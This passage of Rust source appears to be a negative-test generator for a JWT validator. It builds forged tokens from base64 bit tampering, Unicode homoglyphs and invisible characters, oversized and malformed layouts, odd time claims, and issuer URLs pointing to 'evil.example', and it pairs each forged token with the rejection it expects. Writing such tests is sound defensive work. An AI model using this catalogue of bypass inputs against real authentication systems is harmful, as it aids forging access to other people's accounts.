                let (first, second) = part.split_at(part.len() / 8 * 4);
                for (where_, odd) in
                    [("before", format!("{odd}{part}")), ("after", format!("{part}{odd}")), ("between", format!("{first}{odd}{second}"))]
                {
                    add(&format!("{what} {where_}"), odd, malformed);
                }
            }
            add("one character more", format!("{part}A"), shape_of(at, part.len() + 1));
            add(
                "lines of 32",
                part.as_bytes().chunks(32).map(|l| String::from_utf8_lossy(l).into_owned()).collect::<Vec<_>>().join("\n"),
                malformed,
            );
            add("quotes", format!("\"{part}\""), malformed);
            add("percent encoding", part.bytes().map(|b| format!("%{b:02X}")).collect(), malformed);
            add("nothing", String::new(), malformed);
            add("encoded twice", b64(part), ["token.header", "token.claims", "token.signature"][at]);
            // Bits that are dropped: the same bytes in another text.
            let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
            let dropped = [0, 0, 0b1111, 0b11][part.len() % 4];
            let last = alphabet.iter().position(|c| *c == part.as_bytes()[part.len() - 1]).unwrap();
            for bits in 1..=dropped {
                let other = char::from(alphabet[last | bits]);
                add(&format!("bits {bits} set that are dropped"), format!("{}{other}", &part[..part.len() - 1]), malformed);
            }
        }
    }
    all
}

/// What comes of a part with one character of zeros more: no length that base64 has, dropped bits, or other bytes.
fn shape_of(at: usize, length: usize) -> &'static str {
    match (length % 4, at) {
        (1, _) => "token.malformed",
        // A byte of zeros, or a part of one, after the text.
        (_, 0) => "token.header",
        (_, 1) => "token.claims",
        _ => "token.signature",
    }
}

/// Texts that look like this one, or that some reader takes for it.
fn look_alikes(text: &str) -> Vec<(String, String)> {
    let mut all: Vec<(String, String)> = Vec::new();
    let mut add = |what: &str, odd: String| {
        if odd != text {
            all.push((what.to_owned(), odd));
        }
    };
    add("upper case", text.to_uppercase());
    add("first letter upper case", format!("{}{}", text[..1].to_uppercase(), &text[1..]));
    for (what, odd) in [
        ("space", " "),
        ("no-break space", "\u{a0}"),
        ("zero-width space", "\u{200b}"),
        ("zero-width joiner", "\u{200d}"),
        ("word joiner", "\u{2060}"),
        ("byte order mark", "\u{feff}"),
        ("soft hyphen", "\u{ad}"),
        ("right-to-left mark", "\u{200f}"),
        ("right-to-left override", "\u{202e}"),
        ("isolate", "\u{2066}"),
        ("combining acute", "\u{301}"),
        ("variation selector", "\u{fe0f}"),
        ("tag", "\u{e0061}"),
        ("Hangul filler", "\u{3164}"),
        ("grapheme joiner", "\u{34f}"),
        ("line separator", "\u{2028}"),
        ("private use", "\u{e000}"),
        ("noncharacter", "\u{ffff}"),
        ("replacement character", "\u{fffd}"),
    ] {
        add(&format!("{what} before"), format!("{odd}{text}"));
        add(&format!("{what} after"), format!("{text}{odd}"));
        add(&format!("{what} between"), format!("{}{odd}{}", &text[..2], &text[2..]));
    }
    for (latin, other) in [
        ("a", "\u{430}"),
        ("e", "\u{435}"),
        ("o", "\u{43e}"),
        ("p", "\u{440}"),
        ("c", "\u{441}"),
        ("i", "\u{456}"),
        ("i", "\u{131}"),
        ("l", "1"),
        ("l", "I"),
        ("l", "\u{4cf}"),
        ("o", "0"),
        ("t", "\u{1d42d}"),
        ("a", "\u{e1}"),
        ("a", "a\u{301}"),
        ("s", "\u{17f}"),
        ("k", "\u{212a}"),
        ("-", "\u{2010}"),
        ("-", "\u{2212}"),
        ("/", "\u{2044}"),
        ("/", "\u{2215}"),
        (":", "\u{a789}"),
        (".", "\u{3002}"),
        (".", "\u{ff0e}"),
    ] {
        add(&format!("{other:?} for {latin}"), text.replacen(latin, other, 1));
    }
    let wide = |c: char| if c.is_ascii_graphic() { char::from_u32(u32::from(c) + 0xfee0).unwrap() } else { c };
    add("full width", text.chars().map(wide).collect());
    add("reversed", format!("\u{202e}{}", text.chars().rev().collect::<String>()));
    add("percent encoding", text.bytes().map(|b| format!("%{b:02X}")).collect());
    add("one percent encoded", format!("%{:02x}{}", text.as_bytes()[0], &text[1..]));
    add("entities", text.chars().map(|c| format!("&#{};", u32::from(c))).collect());
    add("escapes, twice", text.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect());
    add("without the last", text[..text.len() - 1].to_owned());
    add("the last twice", format!("{text}{}", &text[text.len() - 1..]));
    add("twice", format!("{text}{text}"));
    add("quotes", format!("\"{text}\""));
    add("a wildcard", "*".to_owned());
    add("its first letters and a wildcard", format!("{}*", &text[..3]));
    add("a separator after", format!("{text}#TARGET"));
    add("a separator before", format!("x#{text}"));
    add("a list", format!("{text},x"));
    add("in UTF-7", format!("+{}-", b64(text)));
    all
}

fn odd_unicode(forge: &Forge) -> Vec<Forged> {
    let mut all = Vec::new();
    let subject = forge.subject.clone();
    for (name, text, comes_to) in
        [("sub", subject.as_str(), SOMEBODY_ELSE), ("iss", ISSUER, "token.issuer"), ("aud", AUDIENCE, "token.audience")]
    {
        for (what, odd) in look_alikes(text) {
            all.push(forged(format!("{name}: {what}"), forge.signed(forge.good().with(name, quoted(&odd)).json()), comes_to));
        }
        for control in ["\0", "\u{1}", "\n", "\r", "\u{1b}[31m", "\u{7f}", "\u{85}", "\u{9b}"] {
            let comes_to = if name == "sub" { "token.subject" } else { comes_to };
            let odd = quoted(&format!("{text}{control}"));
            all.push(forged(format!("{name}: {control:?} after"), forge.signed(forge.good().with(name, odd).json()), comes_to));
        }
    }
    for (what, odd) in look_alikes(AUDIENCE) {
        let list = format!("[{},\"other\"]", quoted(&odd));
        all.push(forged(format!("aud, in a list: {what}"), forge.signed(forge.good().with("aud", list).json()), "token.audience"));
    }
    all
}

/// The most bytes that a token may have, as the documents say.
const BOUND: usize = 16 * 1024;

fn sizes(forge: &Forge) -> Vec<Forged> {
    let mut all = Vec::new();
    // Around the bound: base64 has no length of 4n + 1, so header and claims share what there is to fill.
    for length in BOUND - 6..=BOUND + 6 {
        let token = (0..3_usize).find_map(|spaces| {
            let head = format!("{}{}", header("ES256", "k-p256"), " ".repeat(spaces));
            let bare = forge.p256.token("ES256", &head, forge.good().with("fill", "\"\"").json()).len();
            let near = (length - bare) / 4 * 3;
            (near.saturating_sub(3)..near + 4).find_map(|fill| {
                let claims = forge.good().with("fill", format!("\"{}\"", "x".repeat(fill))).json();
                let encoded = b64(&head).len() + b64(&claims).len() + 2 + 86;
                (encoded == length).then(|| forge.p256.token("ES256", &head, claims))
            })
        });
        let token = token.unwrap();
        assert_eq!(token.len(), length);
        all.push(forged(format!("{length} bytes, signed"), token, if length <= BOUND { OK } else { "token.too-large" }));
    }
    for (what, one) in [("A", "A"), ("dots", "."), ("tildes", "~"), ("signs", "=")] {
        for length in [1, 2, 3, 4, 100, BOUND - 1, BOUND] {
            all.push(forged(format!("{length} {what}"), one.repeat(length), "token.malformed"));
        }
        for length in [BOUND + 1, 2 * BOUND, 64 * BOUND] {
            all.push(forged(format!("{length} {what}"), one.repeat(length), "token.too-large"));
        }
    }
    let good = forge.good_token();
    let [head, claims, signature] = good.split('.').collect::<Vec<_>>()[..] else { panic!("three parts") };
    for (what, token) in [
        ("a dot before", format!(".{good}")),
        ("a dot after", format!("{good}.")),
        ("a dot between", good.replacen('.', "..", 1)),
        ("no header", format!(".{claims}.{signature}")),
        ("no claims", format!("{head}..{signature}")),
        ("no signature", format!("{head}.{claims}.")),
        ("header alone", head.to_owned()),
        ("two parts", format!("{head}.{claims}")),
        ("two parts, the wrong ones", format!("{claims}.{signature}")),
        ("four parts", format!("{good}.{signature}")),
        ("five parts", format!("{good}.{signature}.{signature}")),
        ("six parts", format!("{good}.{good}")),
        ("itself with another", format!("{good}~{good}")),
        ("a disclosure after", format!("{good}~{}~", b64(r#"["salt","sub","bob"]"#))),
        ("as JSON", b64(json!({"protected": head, "payload": claims, "signature": signature}).to_string())),
        ("in base64", b64(&good)),
        ("in base64, with dots", format!("{}.{}.{}", b64(head), b64(claims), "A".repeat(5))),
        ("detached", format!("{head}..{signature}")),
    ] {
        all.push(forged(what, token, "token.malformed"));
    }
    all.push(forged("parts changed round", format!("{claims}.{head}.{signature}"), "token.issuer"));
    for (alg, enc) in [("RSA-OAEP", "A256GCM"), ("dir", "A128CBC-HS256"), ("ECDH-ES", "A256GCM"), ("PBES2-HS256+A128KW", "A128GCM")] {
        let head = b64(json!({"alg": alg, "enc": enc, "p2c": 1_000_000_000_u64, "kid": "k-rsa", "cty": "JWT"}).to_string());
        for key in ["", &b64([7; 256])] {
            let token = format!("{head}.{key}.{}.{}.{}", b64([1; 12]), b64(&good), b64([2; 16]));
            all.push(forged(format!("encrypted, {alg}"), token, "token.malformed"));
        }
    }
    for claims in [good.clone(), quoted(&good), format!("[{}]", quoted(&good))] {
        all.push(forged("a token for claims", forge.signed(&claims), "token.claims"));
        let head = r#"{"alg":"ES256","kid":"k-p256","cty":"JWT"}"#;
        all.push(forged("a nested token", forge.p256.token("ES256", head, &claims), "token.nested"));
    }
    all
}

fn times(forge: &Forge) -> Vec<Forged> {
    let (now, mut all) = (forge.now, Vec::new());
    let mut add = |what: String, claims: &[(&str, String)], comes_to| {
        let claims = claims.iter().fold(forge.good(), |all, (name, value)| all.with(name, value.clone()));
        all.push(forged(what, forge.signed(claims.json()), comes_to));
    };
    // Far enough from each edge for a run of minutes. To the millisecond it is tried where the clock is the test's own.
    for ago in [40, 60, 3600, 86_400, 31_536_000, now - 1] {
        add(format!("exp {ago} s ago"), &[("exp", (now - ago).to_string()), ("iat", "0".into())], "token.expired");
        add(
            format!("exp {ago} s ago, with a fraction"),
            &[("exp", format!("{}.999", now - ago - 1)), ("iat", "0".into())],
            "token.expired",
        );
        add(format!("exp {ago} s ago, with an exponent"), &[("exp", format!("{}e0", now - ago)), ("iat", "0".into())], "token.expired");
    }
    for ahead in [600, 3600, 86_400, 31_536_000] {
        add(format!("nbf {ahead} s ahead"), &[("nbf", (now + ahead).to_string())], "token.not-yet-valid");
        add(format!("nbf {ahead} s ahead, with a fraction"), &[("nbf", format!("{}.5", now + ahead))], "token.not-yet-valid");
        let exp = ("exp", (now + ahead + 60).to_string());
        add(format!("iat {ahead} s ahead"), &[("iat", (now + ahead).to_string()), exp], "token.issued-in-future");
    }
    for lifetime in [86_401, 90_000, 31_536_000, 3_153_600_000] {
        let claims = [("iat", (now - 10).to_string()), ("exp", (now - 10 + lifetime).to_string())];
        add(format!("good for {lifetime} s"), &claims, "token.lifetime");
    }
    add("over when it began".into(), &[("iat", (now + 20).to_string()), ("exp", (now + 20).to_string())], "token.lifetime");
    add("over before it began".into(), &[("iat", (now + 20).to_string()), ("exp", (now + 19).to_string())], "token.lifetime");
    add("good until the year 9999".into(), &[("exp", "253402300799".into())], "token.lifetime");
    for (what, time) in [
        ("negative", "-1"),
        ("a little negative", "-0.001"),
        ("very negative", "-9223372036854775808"),
        ("the year 10000", "253402300800"),
        ("the year 10000, with a fraction", "253402300800.5"),
        ("the largest of 63 bits", "9223372036854775807"),
        ("one more", "9223372036854775808"),
        ("the largest of 64 bits", "18446744073709551615"),
        ("beyond 64 bits", "18446744073709551616"),
        ("1e300", "1e300"),
        ("in milliseconds", "1767225600000"),
        ("in microseconds", "1767225600000000"),
        ("text", "\"1767225600\""),
        ("a date", "\"2026-01-01T00:00:00Z\""),
        ("text that is empty", "\"\""),
        ("never", "\"never\""),
        ("true", "true"),
        ("null", "null"),
        ("a list", "[1767225600]"),
        ("an object", "{\"$numberLong\":\"1767225600\"}"),
    ] {
        for name in ["exp", "nbf", "iat"] {
            add(format!("{name}: {what}"), &[(name, time.to_owned())], "token.time");
        }
    }
    for (what, claims) in [
        ("a fraction", vec![("exp", format!("{}.25", now + 600))]),
        ("an exponent", vec![("exp", format!("{}e0", now + 600)), ("nbf", "0e5".into())]),
        ("minus zero", vec![("nbf", "-0".into())]),
        ("nothing to spare", vec![("iat", (now - 20).to_string()), ("exp", (now - 20 + 86_400).to_string())]),
    ] {
        add(what.to_owned(), &claims, OK);
    }
    all
}

fn issuers(forge: &Forge) -> Vec<Forged> {
    let mut all = Vec::new();
    let claims = |iss: &str| forge.good().with("iss", quoted(iss)).json();
    let of = |pair: &Pair, algorithm: &str, kid: &str, iss: &str| pair.token(algorithm, header(algorithm, kid), claims(iss));
    let pairs: [(&str, &Pair, &str); 6] = [
        ("the first's", &forge.rsa, "RS256"),
        ("the first's", &forge.p256, "ES256"),
        ("the second's", &forge.second_rsa, "RS256"),
        ("the second's", &forge.second_p256, "ES256"),
        ("a stranger's", &forge.stranger_rsa, "RS256"),
        ("a stranger's", &forge.stranger_p256, "ES256"),
    ];
    for (whose, pair, algorithm) in pairs {
        let kid = if algorithm == "RS256" { "k-rsa" } else { "k-p256" };
        for (iss, own, comes_to) in [(ISSUER, "the first's", OK), (SECOND, "the second's", SOMEBODY_ELSE)] {
            let comes_to = if whose == own { comes_to } else { "token.signature" };
            all.push(forged(format!("{iss}, {algorithm} with {whose} key"), of(pair, algorithm, kid, iss), comes_to));
        }
    }
    // Keys that only the other has, and algorithms that only the other may use.
    for (algorithm, reason) in [("PS256", "token.algorithm"), ("ES384", "token.algorithm"), ("EdDSA", "token.algorithm")] {
        let (kid, pair) = forge.key_of(algorithm);
        all.push(forged(format!("the second with {algorithm}"), of(pair, algorithm, kid, SECOND), reason));
    }
    all.push(forged("the second with the first's other key", of(&forge.rs256, "RS256", "k-rs256", SECOND), "token.key-unknown"));
    let names = [ISSUER, SECOND].into_iter().flat_map(|issuer| {
        let host = issuer.trim_start_matches("https://").split('/').next().unwrap();
        [
            format!("{issuer}/"),
            format!("{issuer}//"),
            format!("{issuer}/."),
            format!("{issuer}?"),
            format!("{issuer}#"),
            format!("{issuer}?a=b"),
            format!("{issuer}%00"),
            format!("{issuer}%20"),
            issuer.replace(host, &format!("{host}:443")),
            issuer.replace(host, &format!("{host}:80")),
            issuer.replace(host, &format!("{host}.")),
            issuer.replace(host, &host.to_uppercase()),
            issuer.replace(host, &format!("user@{host}")),
            issuer.replace(host, &format!("{host}.evil.example")),
            issuer.replace(host, &format!("evil.example/{host}")),
            issuer.replace(host, &format!("evil.example\\@{host}")),
            issuer.replace(host, &format!("www.{host}")),
            issuer.replace("https", "http"),
            issuer.replace("https", "HTTPS"),
            issuer.replace("https://", ""),
            issuer.replace("https://", "//"),
            issuer.replace("https://", "https:/"),
            issuer.replace("https://", "https:\\\\"),
            issuer.replace("https://", "https:///"),
            format!("{issuer}/.well-known/openid-configuration"),
            format!("{issuer}/../tenant"),
            format!("{issuer} {SECOND}"),
            format!("{issuer},{SECOND}"),
            format!("<{issuer}>"),
        ]
    });
    for name in names.chain(["local".into(), "second".into(), AUDIENCE.into(), "https://evil.example".into(), "*".into(), ".*".into()]) {
        let token = of(&forge.p256, "ES256", "k-p256", &name);
        all.push(forged(format!("iss {name}"), token, "token.issuer"));
    }
    let both = forge.good().with("iss", json!([ISSUER, SECOND]).to_string()).json();
    all.push(forged("both at once", forge.signed(both), "token.issuer"));
    all
}

/// Tokens of each algorithm with one character changed, or with parts of different ones: none is good, whatever the reason.
pub fn changed(forge: &Forge) -> Vec<Forged> {
    let good = ALGORITHMS.map(|algorithm| forge.good_of(algorithm));
    let alphabet = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let mut all = Vec::new();
    for (algorithm, token) in ALGORITHMS.iter().zip(&good) {
        for at in 0..token.len() {
            let of = |by: usize| {
                let position = alphabet.iter().position(|c| *c == token.as_bytes()[at]);
                position.map_or(b'A', |position| alphabet[(position + by) % alphabet.len()])
            };
            for by in [1, 37] {
                let mut bytes = token.clone().into_bytes();
                bytes[at] = of(by);
                all.push(forged(format!("{algorithm}: character {at} by {by}"), String::from_utf8(bytes).unwrap(), "token."));
            }
        }
    }
    let parts = good.each_ref().map(|token| token.split('.').collect::<Vec<_>>());
    for a in 0..5 {
        for b in 0..5 {
            for c in 0..5 {
                let token = format!("{}.{}.{}", parts[a][0], parts[b][1], parts[c][2]);
                // The claims are the same in all.
                if a != c {
                    all.push(forged(format!("the header of {a}, the claims of {b}, the signature of {c}"), token, "token."));
                }
            }
        }
    }
    all
}
